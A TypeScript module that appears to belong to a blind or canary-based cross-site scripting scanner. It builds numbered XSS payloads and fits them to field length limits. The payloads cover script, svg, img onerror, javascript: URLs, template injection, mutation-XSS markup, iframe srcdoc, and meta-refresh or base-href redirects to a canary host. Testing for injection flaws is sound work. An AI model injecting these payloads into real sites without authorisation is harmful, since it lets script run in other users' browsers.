/** Every one of these calls the wire with its number, wherever somebody takes it for more than text. */
const short = (number: number): string[] => [
  `<svg onload=t(${number})>`,
  `"><img src=x onerror=t(${number})>`,
  `<script>t(${number})</script>`,
  `</script><script>t(${number})</script>`,
  `javascript:t(${number})`,
  `'onfocus='t(${number})'autofocus='`,
  `{{t(${number})}}\${t(${number})}`,
  `[here](javascript:t(${number}))`,
  `<a href="javascript:t(${number})">`,
  `\u202e<b onclick=t(${number})>`,
];

const canary = 'https://canary.example';

/** All of it at once, for where there is room. */
const whole = (number: number): string =>
  [
    ...short(number),
    `<iframe srcdoc="<script>parent.t(${number})</script>"></iframe>`,
    `<math><mtext><style><img src=x onerror=t(${number})></style></mtext></math>`,
    `<style>body{background:url(${canary}/${number})}</style>`,
    `<img src="${canary}/${number}.png">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/">`,
    `<base href="${canary}/">`,
    `<form action="${canary}/"><input formaction="javascript:t(${number})"></form>`,
    `![x](${canary}/${number}.png)`,
    `-->*/--!><script>t(${number})</script>`,
    `\\u003cscript\\u003et(${number})\\u003c/script\\u003e`,
    `&lt;script&gt;t(${number})&lt;/script&gt;`,
    '\u2028\u2029',
  ].join(' ');

/** What to try in one field, one after the other until one is taken; the number makes it known again. */
export function payloads(number: number, maxLength: number): string[] {
  const single = short(number);
  // Each field begins with another one, so that all of them are somewhere.
  const turned = [...single.slice(number % single.length), ...single.slice(0, number % single.length)];
  const address = `https://canary.example/?"><svg/onload=t(${number})>`;
  return [whole(number), turned[0]!, single[0]!, address].filter((text) => text.length <= maxLength);
}

/** Each alone, for the control: a page that takes them for more than text. */
export const eachPayload = (number: number): string[] => [
  `<svg onload=t(${number})>`,
  `"><img src=x onerror=t(${number})>`,
  `<script>t(${number})</script>`,
  `<input onfocus='t(${number})' autofocus>`,
  `<iframe srcdoc="<script>parent.t(${number})</script>"></iframe>`,
];
